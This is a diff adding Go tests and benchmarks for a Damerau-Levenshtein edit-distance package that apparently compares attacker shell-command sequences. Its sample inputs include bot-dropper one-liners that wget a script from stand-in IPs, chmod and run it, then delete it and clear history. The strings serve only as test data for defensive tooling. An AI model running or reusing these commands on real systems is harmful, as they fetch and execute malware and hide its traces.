@@ -163,6 +163,115 @@ func TestCharDamerau(t *testing.T) {
 	}
 }
 
+// TestScratchReuseMatchesFresh: a Scratch reused across many pairs (of
+// varying lengths, exercising row growth and stale contents) must agree
+// with the allocate-per-call package functions.
+func TestScratchReuseMatchesFresh(t *testing.T) {
+	r := rand.New(rand.NewSource(23))
+	vocab := []string{"cd", "/tmp", "wget", "chmod", "777", "sh", "rm", "-rf", "x", "y", "z"}
+	gen := func(max int) []string {
+		out := make([]string, r.Intn(max))
+		for i := range out {
+			out[i] = vocab[r.Intn(len(vocab))]
+		}
+		return out
+	}
+	s := NewScratch()
+	for i := 0; i < 1000; i++ {
+		a, b := gen(1+r.Intn(30)), gen(1+r.Intn(30))
+		if got, want := s.Damerau(a, b), Damerau(a, b); got != want {
+			t.Fatalf("scratch Damerau = %d, fresh = %d for %v %v", got, want, a, b)
+		}
+		bound := r.Intn(10)
+		if got, want := s.DamerauBanded(a, b, bound), DamerauBanded(a, b, bound); got != want {
+			t.Fatalf("scratch banded = %d, fresh = %d", got, want)
+		}
+		if got, want := s.Normalized(a, b), Normalized(a, b); got != want {
+			t.Fatalf("scratch Normalized = %v, fresh = %v", got, want)
+		}
+	}
+}
+
+// TestNormalizedPrefilterExact: the clearly-dissimilar banded routing
+// inside Normalized must be invisible — every pair, including the routed
+// ones, gets exactly full-DP distance over max length.
+func TestNormalizedPrefilterExact(t *testing.T) {
+	r := rand.New(rand.NewSource(31))
+	vocab := []string{"a", "b", "c", "d"}
+	gen := func(n int) []string {
+		out := make([]string, n)
+		for i := range out {
+			out[i] = vocab[r.Intn(len(vocab))]
+		}
+		return out
+	}
+	for i := 0; i < 2000; i++ {
+		// Skewed lengths so the prefilter branch is hit often.
+		a, b := gen(r.Intn(40)), gen(r.Intn(8))
+		if r.Intn(2) == 0 {
+			a, b = b, a
+		}
+		n := len(a)
+		if len(b) > n {
+			n = len(b)
+		}
+		want := 0.0
+		if n > 0 {
+			want = float64(Damerau(a, b)) / float64(n)
+		}
+		if got := Normalized(a, b); got != want {
+			t.Fatalf("Normalized(%v, %v) = %v, want %v", a, b, got, want)
+		}
+	}
+}
+
+// TestCharDamerauMatchesTokenReference: the direct byte DP must equal
+// the old implementation (token DLD over one-char strings).
+func TestCharDamerauMatchesTokenReference(t *testing.T) {
+	ref := func(a, b string) int {
+		ta := make([]string, len(a))
+		for i := 0; i < len(a); i++ {
+			ta[i] = a[i : i+1]
+		}
+		tb := make([]string, len(b))
+		for i := 0; i < len(b); i++ {
+			tb[i] = b[i : i+1]
+		}
+		return Damerau(ta, tb)
+	}
+	r := rand.New(rand.NewSource(41))
+	const chars = "abcdxy /;"
+	gen := func() string {
+		out := make([]byte, r.Intn(25))
+		for i := range out {
+			out[i] = chars[r.Intn(len(chars))]
+		}
+		return string(out)
+	}
+	for i := 0; i < 500; i++ {
+		a, b := gen(), gen()
+		if got, want := CharDamerau(a, b), ref(a, b); got != want {
+			t.Fatalf("CharDamerau(%q, %q) = %d, want %d", a, b, got, want)
+		}
+	}
+}
+
+// TestCharDamerauZeroStringAllocs: the character DP must not allocate
+// per-character strings; with a reused Scratch it must not allocate at
+// all.
+func TestCharDamerauZeroStringAllocs(t *testing.T) {
+	s := NewScratch()
+	a := "cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh"
+	b := "cd /var/run; wget http://198.51.100.9/x.sh; chmod 777 x.sh"
+	s.CharDamerau(a, b) // warm the rows
+	allocs := testing.AllocsPerRun(50, func() {
+		s.CharDamerau(a, b)
+	})
+	if allocs != 0 {
+		t.Errorf("CharDamerau with scratch allocates %.1f/op, want 0", allocs)
+	}
+}
+
 func BenchmarkDamerauTokens(b *testing.B) {
 	x := Tokenize("cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh; sh bot.sh; rm -rf bot.sh")
 	y := Tokenize("cd /var/run; wget http://198.51.100.9/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh; history -c")
@@ -178,5 +287,48 @@ func BenchmarkDamerauBanded(b *testing.B) {
 	b.ResetTimer()
 	for i := 0; i < b.N; i++ {
 		DamerauBanded(x, y, 3)
+	}
+}
+
+// TestInternedMatchesStrings pins the interned-ID DP to the string DP:
+// equal tokens get equal IDs, so every distance must match exactly.
+func TestInternedMatchesStrings(t *testing.T) {
+	rng := rand.New(rand.NewSource(11))
+	vocab := []string{"wget", "curl", "-O", "/tmp/a", "/tmp/b", "chmod", "+x", "sh", "rm", "-rf", "cd", "mdrfckr", "echo", "127.0.0.1"}
+	seq := func(n int) []string {
+		out := make([]string, n)
+		for i := range out {
+			out[i] = vocab[rng.Intn(len(vocab))]
+		}
+		return out
+	}
+	in := NewInterner()
+	s := NewScratch()
+	for trial := 0; trial < 300; trial++ {
+		a, b := seq(rng.Intn(25)), seq(rng.Intn(25))
+		ia, ib := in.Intern(a), in.Intern(b)
+		if got, want := s.DamerauIDs(ia, ib), s.Damerau(a, b); got != want {
+			t.Fatalf("DamerauIDs(%v, %v) = %d, want %d", a, b, got, want)
+		}
+		if got, want := s.NormalizedIDs(ia, ib), s.Normalized(a, b); got != want {
+			t.Fatalf("NormalizedIDs(%v, %v) = %v, want %v", a, b, got, want)
+		}
+	}
+}
+
+// TestInternerPreservesEquality checks the Interner contract directly:
+// same token same ID, distinct tokens distinct IDs.
+func TestInternerPreservesEquality(t *testing.T) {
+	in := NewInterner()
+	ids := in.Intern([]string{"cd", "/tmp", "cd", "/var"})
+	if ids[0] != ids[2] {
+		t.Errorf("equal tokens got distinct IDs: %v", ids)
+	}
+	seen := map[int32]bool{ids[0]: true}
+	for _, id := range []int32{ids[1], ids[3]} {
+		if seen[id] {
+			t.Errorf("distinct tokens share an ID: %v", ids)
+		}
+		seen[id] = true
 	}
 }
